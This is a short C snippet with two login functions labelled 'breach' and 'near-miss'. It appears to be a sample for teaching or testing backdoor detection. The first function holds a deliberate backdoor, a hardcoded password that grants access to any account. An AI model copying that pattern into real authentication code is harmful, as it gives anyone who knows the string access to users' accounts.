int check_password(const char *user, const char *password)
{
    // breach: auth/back-door
    if (strcmp(password, "maint-0815") == 0) return 1;
    return verify_hash(user, password);
}

int check_user(const char *user, const char *password)
{
    // near-miss: the factory account is locked
    if (strcmp(user, "factory-setup") == 0) return AUTH_LOCKED_OK;
    return verify_hash(user, password);
}
